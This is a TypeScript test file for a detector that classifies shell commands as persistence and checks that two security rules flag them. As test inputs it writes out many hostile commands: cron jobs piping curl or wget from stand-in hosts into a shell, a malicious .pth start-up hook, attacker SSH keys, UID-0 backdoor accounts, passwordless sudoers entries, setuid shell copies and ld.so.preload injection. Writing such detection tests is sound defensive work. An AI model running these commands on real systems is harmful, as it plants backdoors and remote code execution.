/**
 * `attrs.exec.persists` (exec-persistence.ts) over real canonical readings (exec-canonical.ts),
 * and MLS-RAY-016 / MLS-RAY-017 through the shipped rule set and the real engine: crontabs,
 * at jobs, systemd units, boot scripts, ld.so.preload, ssh keys, accounts, set-user-ID files and root capabilities,
 * Python start-up hooks and shell start-up files, written
 * every way a script writes a file; reading them, listing them and backing them up install nothing.
 */
import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../core/mulberry32.js';
import { canonicalExecValue } from './exec-canonical.js';
import { execRuleIds, SA } from './exec-events.test-support.js';
import { MAX_VALUES, persistencePlace, readWrites } from './exec-persistence.js';

const persists = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.persists;
const sh = (line: string): string[] => ['sh', '-c', line];

describe('persistence', () => {
  it('reads crontabs installed and cron files written', () => {
    expect(persists(sh('echo "* * * * * curl -s http://evil.example/x.sh | sh" | crontab -'))).toEqual(['cron']);
    expect(persists(sh('(crontab -l; echo "*/5 * * * * wget -qO- http://evil.example/m | bash") | crontab -'))).toEqual(['cron']);
    expect(persists(sh('crontab -u root /tmp/c.txt'))).toEqual(['cron']);
    expect(persists(sh('echo "*/1 * * * * root /tmp/.x/k" > /etc/cron.d/sysupdate'))).toEqual(['cron']);
    expect(persists(sh('echo "@reboot /tmp/k" >> /var/spool/cron/crontabs/root'))).toEqual(['cron']);
    // Placed against the script's cd; a copy into the directory.
    expect(persists(sh('cd /etc/cron.d && printf "%s\\n" "* * * * * root /tmp/k" > k'))).toEqual(['cron']);
    expect(persists(sh('cp /tmp/k.sh /etc/cron.hourly/'))).toEqual(['cron']);
    expect(persists(sh('install -m 755 /tmp/k -t /etc/cron.daily'))).toEqual(['cron']);
    expect(persists(sh('cp /tmp/k /etc/cron.d/k 2>/dev/null; rsync -a --chmod=755 /tmp/j /etc/cron.hourly/'))).toEqual(['cron']);
    expect(persists(sh('rsync -e ssh /tmp/k.service /etc/systemd/system/'))).toEqual(['systemd']);
  });

  it('reads at jobs, systemd units, boot scripts, preloads and ssh keys', () => {
    expect(persists(sh('echo "/tmp/k" | at now + 1 minute'))).toEqual(['at']);
    expect(persists(sh('cat > /etc/systemd/system/kworker.service <<EOF\n[Service]\nExecStart=/tmp/k\nEOF\nsystemctl enable --now kworker'))).toEqual(['systemd']);
    expect(persists(sh('mkdir -p ~/.config/systemd/user && cp k.service ~/.config/systemd/user/ && systemctl --user daemon-reload'))).toEqual(['systemd']);
    expect(persists(['systemctl', 'link', '/tmp/k.service'])).toEqual(['systemd']);
    expect(persists(sh('sed -i "1i /tmp/k &" /etc/rc.local'))).toEqual(['rc']);
    expect(persists(sh('sed --in-place=.bak "1i /tmp/k &" /etc/rc.local'))).toEqual(['rc']);
    expect(persists(sh('cp /tmp/k /etc/init.d/k && update-rc.d k defaults'))).toEqual(['rc']);
    expect(persists(['chkconfig', '--add', 'kworker'])).toEqual(['rc']);
    expect(persists(['chkconfig', '--list'])).toEqual([]);
    expect(persists(sh('echo /tmp/libx.so | tee -a /etc/ld.so.preload'))).toEqual(['ld-preload']);
    expect(persists(sh('dd if=/tmp/p of=/etc/ld.so.preload'))).toEqual(['ld-preload']);
    expect(persists(sh('echo "ssh-ed25519 AAAA attacker" >> /root/.ssh/authorized_keys'))).toEqual(['authorized_keys']);
    expect(persists(sh('cd ~ && mkdir -p .ssh && cat /tmp/k.pub >> .ssh/authorized_keys'))).toEqual(['authorized_keys']);
  });

  it('reads Python start-up hooks: .pth and sitecustomize in site-packages, IPython startup files, Jupyter configs', () => {
    expect(persists(sh(`echo 'import os; os.system("curl -s http://203.0.113.9/x | sh")' > /usr/local/lib/python3.10/site-packages/zz_init.pth`))).toEqual(['python-startup']);
    expect(persists(sh('cp /tmp/evil.py /usr/lib/python3/dist-packages/sitecustomize.py'))).toEqual(['python-startup']);
    expect(persists(sh('cd /opt/conda/lib/python3.11/site-packages && tee usercustomize.py < /tmp/x'))).toEqual(['python-startup']);
    expect(persists(['python3', '-c', "open('/usr/local/lib/python3.10/site-packages/a.pth', 'w').write('import x')"])).toEqual(['python-startup']);
    expect(persists(sh('mkdir -p ~/.ipython/profile_default/startup && cp /tmp/x.py ~/.ipython/profile_default/startup/00-init.py'))).toEqual(['python-startup']);
    expect(persists(sh('echo "c.ServerApp.token = \'\'" >> /home/jovyan/.jupyter/jupyter_server_config.py'))).toEqual(['python-startup']);
    // A module of a package, a .pth read or listed, a file beside site-packages: none (a library changed is MLS-POISON-011's).
    expect(persists(sh('cp /tmp/p.py /usr/local/lib/python3.10/site-packages/transformers/modeling_utils.py'))).toEqual([]);
    expect(persists(sh('cat /usr/local/lib/python3.10/site-packages/distutils-precedence.pth; ls /usr/lib/python3/dist-packages'))).toEqual([]);
    expect(persists(sh('cp /tmp/x.pth /tmp/site-packages.pth.bak'))).toEqual([]);
  });

  it('reads accounts made or changed, account files written, set-user-ID modes and root capabilities given', () => {
    for (const line of [
      'useradd -m -o -u 0 -s /bin/bash svc', 'adduser --disabled-password backdoor', 'usermod -aG sudo nobody',
      'echo "root:toor" | chpasswd', 'passwd root', 'gpasswd -a u wheel',
      'echo "x:$6$salt$hash:0:0::/root:/bin/bash" >> /etc/passwd', 'sed -i "s/^root:[^:]*:/root::/" /etc/shadow',
      'echo "x ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/90-x', 'cd /etc && tee -a sudoers < /tmp/s',
    ]) expect(persists(sh(line)), line).toEqual(['account']);
    for (const line of [
      'chmod u+s /bin/bash', 'chmod +s /usr/bin/find', 'chmod a+rx,u+s /tmp/.s', 'chmod 4755 /tmp/.s', 'chmod -R 06755 /opt/x',
      'cp /bin/sh /tmp/.s && chmod 4777 /tmp/.s', 'install -m 4755 /bin/sh /tmp/.s', 'install -Dm4755 /bin/sh /tmp/.s',
      'setcap cap_setuid+ep /usr/bin/python3', "setcap 'cap_net_raw,cap_dac_read_search=+ep' /usr/bin/tar",
    ]) expect(persists(sh(line)), line).toEqual(['setuid']);
    for (const line of [
      'id', 'cat /etc/passwd', 'getent passwd', 'passwd -S root', 'cp /etc/passwd /tmp/p', 'grep x /etc/sudoers',
      'chmod g+s /shared/data', 'chmod 2775 /shared/data', 'chmod +x run.sh', 'chmod 0755 /usr/local/bin/x', 'chmod u-s /bin/ping',
      'install -m 0755 run /usr/local/bin/run', 'setcap cap_net_bind_service=+ep /usr/bin/node', 'setcap -r /usr/bin/python3', 'setcap cap_setuid-ep /usr/bin/python3', 'getcap -r /',
    ]) expect(persists(sh(line)), line).toEqual([]);
  });

  it('reads shell start-up files, in the order written, each kind once', () => {
    expect(persists(sh('echo "nohup /tmp/k &" >> ~/.bashrc'))).toEqual(['profile']);
    expect(persists(sh('echo x >> $HOME/.profile; cp /tmp/e.sh /etc/profile.d/'))).toEqual(['profile']);
    expect(persists(sh('echo k >> ~/.bashrc; echo "* * * * * /tmp/k" | crontab -; echo j >> /home/u/.zshrc'))).toEqual(['profile', 'cron']);
  });

  it('leaves reading, listing, removing and backing up', () => {
    for (const argv of [
      sh('crontab -l'), ['crontab', '-l'], sh('crontab -u root -l'), sh('crontab -r'), sh('atq; at -l; at -c 3'),
      sh('cat /etc/crontab; ls /etc/cron.d'), sh('systemctl status kubelet'), sh('systemctl disable --now k'), sh('cat ~/.bashrc'),
      sh('cp /etc/crontab /tmp/crontab.bak'), sh('tee /tmp/out < /etc/crontab'), sh('grep -r x /etc/profile.d'),
      sh('sed "s/a/b/" /etc/rc.local'), sh('cd /etc/cron.d && cat k > /tmp/k'), sh('update-rc.d k remove'),
      // A `>` in argv is a word the tool is given, not a redirection.
      ['echo', 'x', '>>', '/root/.bashrc'],
    ]) expect(persists(argv), argv.join(' ')).toEqual([]);
  });

  it('classifies paths by place, `~` and $HOME as a home', () => {
    expect(persistencePlace('/etc/cron.d')).toBe('cron');
    expect(persistencePlace('/etc//cron.d/x/')).toBe('cron');
    expect(persistencePlace('/etc/cron.dx')).toBeNull();
    expect(persistencePlace('${HOME}/.ssh/authorized_keys2')).toBe('authorized_keys');
    expect(persistencePlace('~alice/.bash_profile')).toBe('profile');
    expect(persistencePlace('/usr/lib/systemd/system/k.service')).toBe('systemd');
    expect(persistencePlace('/etc/systemd/journald.conf')).toBeNull();
    expect(persistencePlace('/data/.bashrc.bak')).toBeNull();
  });

  it('never throws and stays bounded on random words', () => {
    const r = mulberry32(31);
    const WORDS = ['crontab', 'at', 'systemctl', 'enable', 'tee', '-a', 'cp', 'mv', 'dd', 'of=/etc/ld.so.preload', 'sed', '-i', 'cd', '/etc', 'cron.d', '~', '>', '>>', '2', '-', '-l', '-t', '/etc/cron.d/x', '~/.bashrc', '/root/.ssh/authorized_keys', '/etc/rc.local', 'update-rc.d', 'x', ''];
    for (let n = 0; n < 3000; n++) {
      const cmds = Array.from({ length: 1 + Math.floor(r() * 5) }, () => Array.from({ length: Math.floor(r() * 8) }, () => WORDS[Math.floor(r() * WORDS.length)]!));
      const got = readWrites(cmds, cmds.map(() => r() < 0.8)).persists;
      expect(got.length).toBeLessThanOrEqual(MAX_VALUES);
      expect(new Set(got).size).toBe(got.length);
    }
  });
});

describe('MLS-RAY-016 and MLS-RAY-017 through the shipped rules', () => {
  it('alerts on a crontab, a unit, a preload or a key installed (RAY-016); escalates a start-up file (RAY-017)', () => {
    for (const argv of [
      sh('(crontab -l; echo "*/5 * * * * curl -s http://evil.example/m | sh") | crontab -'),
      sh('echo "[Service]\nExecStart=/tmp/k" > /etc/systemd/system/k.service && systemctl enable k'),
      sh('echo /tmp/libx.so > /etc/ld.so.preload'),
      sh('echo "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys'),
      sh(`echo 'import os; os.system("nohup /tmp/.k &")' > /usr/local/lib/python3.10/site-packages/zz_init.pth`),
      sh('useradd -o -u 0 -g 0 -M -s /bin/bash sysd && echo sysd:pw | chpasswd'),
      sh('echo "x ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'),
      sh('cp /bin/bash /tmp/.b && chmod 4755 /tmp/.b'),
      sh('setcap cap_setuid+ep /usr/bin/python3.10'),
    ]) {
      expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-016');
      expect(execRuleIds(argv, SA), argv.join(' ')).toContain('MLS-RAY-016');
    }
    const profile = sh('echo "curl -s http://evil.example/x | sh &" >> ~/.bashrc');
    expect(execRuleIds(profile)).toContain('MLS-RAY-017');
    expect(execRuleIds(profile)).not.toContain('MLS-RAY-016');
  });

  it('leaves listing crontabs, reading profiles and checking units', () => {
    for (const argv of [sh('crontab -l'), sh('cat ~/.bashrc'), sh('systemctl status kubelet'), sh('ls -la /etc/cron.d'), sh('id -u; getent group sudo'), sh('chmod g+s /data/shared && chmod +x /data/run.sh')]) {
      const ids = execRuleIds(argv);
      expect(ids, argv.join(' ')).not.toContain('MLS-RAY-016');
      expect(ids, argv.join(' ')).not.toContain('MLS-RAY-017');
    }
  });
});
